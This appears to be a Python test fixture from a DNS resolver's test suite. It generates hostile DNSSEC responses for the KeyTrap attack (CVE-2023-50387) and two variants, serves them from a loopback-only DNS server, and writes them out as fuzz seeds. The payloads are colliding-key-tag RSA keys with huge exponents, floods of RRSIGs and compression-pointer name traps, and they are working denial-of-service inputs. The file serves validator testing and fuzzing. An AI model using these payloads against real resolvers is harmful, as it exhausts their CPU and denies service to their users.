#!/usr/bin/env python3
"""keytrap -- a hostile signed zone (CVE-2023-50387, "KeyTrap") and a DNS server that serves it.

The zone keytrap.test. answers `www.keytrap.test. A` with one A record and N_RRSIGS RRSIGs
(RSASHA256, one key tag, random signatures), and `keytrap.test. DNSKEY` with N_KEYS keys that all
carry that key tag, each an RSA key with an EXPONENT_LEN-octet public exponent and a 4096-bit
modulus. A validator that tries every RRSIG with every key of its tag (RFC 4035 5.3.1) does
N_RRSIGS * N_KEYS modular exponentiations with a 80,000-bit exponent: minutes of CPU.

That is the "keytrap" mode. Two more modes serve other hostile pairs for the same names:
  - "verify": VERIFY_RRSIGS RRSIGs of one valid-sized key (RSA-2048, exponent 65537, a random
    modulus: nothing checks that it factors), each signature a number below the modulus, so every
    RRSIG costs a real modular exponentiation before it fails: the per-probe verification cap is
    what stops the check, not the key sizes or the collision limit.
  - "nametrap": as many RRSIGs as fit in NAMETRAP_LEN octets, all of one tag, and a DNSKEY answer of
    as many copies of one tiny key of that tag as fit, owned (through a compression pointer) by a
    254-octet name of 122 labels that is not the signer. No key is a candidate, so nothing is charged
    to the budget; a validator that decompresses each key's owner for each RRSIG spends seconds.

Each answer is too large for UDP: over UDP it comes truncated (TC=1, no records), over TCP whole.
Everything else is REFUSED. The bytes are fixed (seeded), so each pair is a fuzz seed.

As a library:
    srv = KeyTrapServer("127.0.0.63", mode="keytrap"); port = srv.start(); ...; srv.stop()
    answer, keys = messages(qid, mode)   # the two messages
As a script:
    keytrap.py --host 127.0.0.63 [--mode M]   prints {"host": ..., "port": ...}, serves until SIGTERM
    keytrap.py --seed FILE [--mode M]         writes the fuzz seed: 2-byte length, answer, DNSKEY answer

Python 3 standard library only. Only loopback addresses are accepted.
"""

import argparse
import os
import random
import socket
import struct
import sys
import threading

if __name__ == "__main__":  # as a script: test/ on the path, for the harness package
    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from harness.fakes import FakeServer, key_tag, name_wire, serve_main  # noqa: E402

ZONE = "keytrap.test."
QNAME = "www." + ZONE
N_RRSIGS = 20
N_KEYS = 4
EXPONENT_LEN = 10000       # octets: an 80,000-bit exponent
MODULUS_LEN = 512          # octets: 4096 bits, the largest RFC 3110 allows
ALGORITHM = 8              # RSASHA256
KEY_TAG = 4711
INCEPTION, EXPIRATION = 1700000000, 2000000000   # serial-number times around "now" until 2033
QR, AA, TC = 0x8000, 0x0400, 0x0200
MODES = ("keytrap", "verify", "nametrap")

VERIFY_RRSIGS = 40         # > DNSSEC_MAX_VERIFICATIONS (32), one candidate key each
VERIFY_MODULUS_LEN = 256   # octets: RSA-2048
NAMETRAP_LEN = 60000       # octets per message: the pair stays a fuzz seed under 128 KB
NAMETRAP_KEY = struct.pack(">HBB", 256, 3, ALGORITHM) + b"\x01"   # zone key, a 1-octet "key"
NAMETRAP_OWNER_LABELS = 120   # "a." x 120 + keytrap.test.: 254 octets, 122 labels


def colliding_key(rng, flags):
    """DNSKEY rdata of an RSA key with a huge exponent whose key tag is KEY_TAG: the last two
    octets of the modulus are chosen to make the checksum come out right."""
    exponent = bytes([rng.randrange(1, 256)]) + bytes(rng.randrange(256) for _ in range(EXPONENT_LEN - 1))
    modulus = bytes([0x80 | rng.randrange(128)]) + bytes(rng.randrange(256) for _ in range(MODULUS_LEN - 3))
    head = struct.pack(">HBB", flags, 3, ALGORITHM) + b"\x00" + struct.pack(">H", EXPONENT_LEN)
    body = head + exponent + modulus
    base = sum(b if i & 1 else b << 8 for i, b in enumerate(body))
    n = len(body)  # the two free octets sit at n and n + 1
    for x in range(256):
        for y in range(256):
            ac = base + (x if n & 1 else x << 8) + (y if (n + 1) & 1 else y << 8)
            if (ac + ((ac >> 16) & 0xFFFF)) & 0xFFFF == KEY_TAG:
                rdata = body + bytes([x, y])
                assert key_tag(rdata) == KEY_TAG
                return rdata
    raise RuntimeError("no colliding key")  # not reached: every tag is reachable


def _keys():
    rng = random.Random(50387)
    return [colliding_key(rng, 257 if i == 0 else 256) for i in range(N_KEYS)]


_KEYS = None


def _rr(owner, rtype, ttl, rdata):
    return owner + struct.pack(">HHIH", rtype, 1, ttl, len(rdata)) + rdata


def _rrsig(covered, labels, rng):
    fixed = struct.pack(">HBBIIIH", covered, ALGORITHM, labels, 300, EXPIRATION, INCEPTION, KEY_TAG)
    return fixed + name_wire(ZONE) + bytes(rng.randrange(256) for _ in range(MODULUS_LEN))


def _question(name, qtype):
    return name_wire(name) + struct.pack(">HH", qtype, 1)


def answer_message(qid):
    rng = random.Random(50868)
    q = _question(QNAME, 1)
    rrs = [_rr(b"\xc0\x0c", 1, 300, socket.inet_aton("192.0.2.1"))]
    rrs += [_rr(b"\xc0\x0c", 46, 300, _rrsig(1, 3, rng)) for _ in range(N_RRSIGS)]
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + q + b"".join(rrs)


def keys_message(qid):
    global _KEYS
    if _KEYS is None:
        _KEYS = _keys()
    q = _question(ZONE, 48)
    rrs = [_rr(b"\xc0\x0c", 48, 300, k) for k in _KEYS]
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + q + b"".join(rrs)


def _verify_key():
    rng = random.Random(2048)
    modulus = bytes([0x80 | rng.randrange(128)]) + bytes(rng.randrange(256)
                                                         for _ in range(VERIFY_MODULUS_LEN - 2))
    modulus += bytes([rng.randrange(256) | 1])
    return struct.pack(">HBB", 257, 3, ALGORITHM) + b"\x03\x01\x00\x01" + modulus


def verify_answer(qid):
    rng = random.Random(32)
    tag = key_tag(_verify_key())
    q = _question(QNAME, 1)
    rrs = [_rr(b"\xc0\x0c", 1, 300, socket.inet_aton("192.0.2.1"))]
    for _ in range(VERIFY_RRSIGS):
        fixed = struct.pack(">HBBIIIH", 1, ALGORITHM, 3, 300, EXPIRATION, INCEPTION, tag)
        # below the modulus (its top octet is >= 0x80), so the exponentiation is really done
        sig = bytes([rng.randrange(0x40)]) + bytes(rng.randrange(256) for _ in range(VERIFY_MODULUS_LEN - 1))
        rrs.append(_rr(b"\xc0\x0c", 46, 300, fixed + name_wire(ZONE) + sig))
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + q + b"".join(rrs)


def verify_keys(qid):
    q = _question(ZONE, 48)
    rrs = [_rr(b"\xc0\x0c", 48, 300, _verify_key())]
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + q + b"".join(rrs)


def nametrap_answer(qid):
    tag = key_tag(NAMETRAP_KEY)
    head = struct.pack(">HHHHHH", qid, QR | AA, 1, 0, 0, 0) + _question(QNAME, 1)
    rrs = [_rr(b"\xc0\x0c", 1, 300, socket.inet_aton("192.0.2.1"))]
    sig = _rr(b"\xc0\x0c", 46, 300, struct.pack(">HBBIIIH", 1, ALGORITHM, 3, 300, EXPIRATION,
                                                   INCEPTION, tag) + name_wire(ZONE) + b"\x55")
    size = len(head) + len(rrs[0])
    while size + len(sig) <= NAMETRAP_LEN:
        rrs.append(sig)
        size += len(sig)
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + head[12:] + b"".join(rrs)


def nametrap_keys(qid):
    head = _question(ZONE, 48)
    owner_off = 12 + len(head)   # the first key's owner, spelled out; the others point at it
    first = _rr(b"\x01a" * NAMETRAP_OWNER_LABELS + b"\xc0\x0c", 48, 300, NAMETRAP_KEY)
    rest = _rr(struct.pack(">H", 0xC000 | owner_off), 48, 300, NAMETRAP_KEY)
    rrs = [first]
    size = 12 + len(head) + len(first)
    while size + len(rest) <= NAMETRAP_LEN:
        rrs.append(rest)
        size += len(rest)
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + head + b"".join(rrs)


def messages(qid=0x4b54, mode="keytrap"):
    if mode == "verify":
        return verify_answer(qid), verify_keys(qid)
    if mode == "nametrap":
        return nametrap_answer(qid), nametrap_keys(qid)
    return answer_message(qid), keys_message(qid)


def seed_bytes(mode="keytrap"):
    """The fuzz corpus form (test/fuzz/corpus/dnssec): 2-byte length L, the answer, the keys."""
    a, k = messages(mode=mode)
    return struct.pack(">H", len(a)) + a + k


def _parse(pkt):
    if len(pkt) < 12:
        return None
    qid, _flags, qd = struct.unpack(">HHH", pkt[:6])
    if qd != 1:
        return None
    off, labels = 12, []
    while off < len(pkt) and pkt[off] != 0:
        n = pkt[off]
        if n > 63:
            return None
        labels.append(pkt[off + 1:off + 1 + n].decode("latin-1").lower())
        off += 1 + n
    if off + 5 > len(pkt):
        return None
    qtype = struct.unpack(">H", pkt[off + 1:off + 3])[0]
    return qid, ".".join(labels) + ".", qtype, pkt[12:off + 5]


def reply(pkt, tcp, mode="keytrap"):
    q = _parse(pkt)
    if q is None:
        return None
    qid, qname, qtype, qsec = q
    if qname == QNAME and qtype == 1:
        r = messages(qid, mode)[0]
    elif qname == ZONE and qtype == 48:
        r = messages(qid, mode)[1]
    else:
        return struct.pack(">HHHHHH", qid, QR | 5, 1, 0, 0, 0) + qsec   # REFUSED
    if not tcp and len(r) > 1232:
        return struct.pack(">HHHHHH", qid, QR | AA | TC, 1, 0, 0, 0) + qsec
    return r


class KeyTrapServer(FakeServer):
    """UDP and TCP on one loopback port; each TCP connection on a thread of its own.
    Records (transport, qname, qtype)."""

    name = "keytrap"

    def __init__(self, host, mode="keytrap"):
        super().__init__(host)
        if mode not in MODES:
            raise ValueError("no mode %r: one of %s" % (mode, ", ".join(MODES)))
        self.mode = mode
        self.port = None
        self.queries = []
        self._lock = threading.Lock()

    def start(self):
        """-> the port (UDP and TCP)."""
        keys_message(0)  # build the keys before the first query arrives
        return super().start()[self.mode]

    def _bind(self):
        self.port = self.bind_pair(self.mode)

    def _note(self, tcp, pkt):
        q = _parse(pkt)
        with self._lock:
            self.queries.append(("tcp" if tcp else "udp", q[1] if q else None, q[2] if q else None))

    def _on(self, kind, _mode, sock):
        if kind == "udp":
            pkt, addr = sock.recvfrom(65535)
            self._note(False, pkt)
            r = reply(pkt, False, self.mode)
            if r is not None:
                sock.sendto(r, addr)
        else:
            conn, _ = sock.accept()
            threading.Thread(target=self._conn, args=(conn,), daemon=True).start()

    def _conn(self, conn):
        conn.settimeout(5)
        try:
            buf = b""
            while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
                data = conn.recv(65535)
                if not data:
                    return
                buf += data
            pkt = buf[2:2 + struct.unpack(">H", buf[:2])[0]]
            self._note(True, pkt)
            r = reply(pkt, True, self.mode)
            if r is not None:
                conn.sendall(struct.pack(">H", len(r)) + r)
        except OSError:
            pass
        finally:
            conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description="a KeyTrap zone served on a loopback address")
    ap.add_argument("--host", help="loopback address to bind, e.g. 127.0.0.63 or ::1")
    ap.add_argument("--seed", help="write the fuzz seed (length, answer, DNSKEY answer) here and exit")
    ap.add_argument("--mode", choices=MODES, default="keytrap", help="the hostile pair to serve")
    args = ap.parse_args(argv)
    if args.seed:
        with open(args.seed, "wb") as f:
            f.write(seed_bytes(args.mode))
        return 0
    if not args.host:
        ap.error("--host or --seed is required")
    srv = KeyTrapServer(args.host, args.mode)
    return serve_main(srv, lambda port: {"host": args.host, "port": port})


if __name__ == "__main__":
    sys.exit(main())
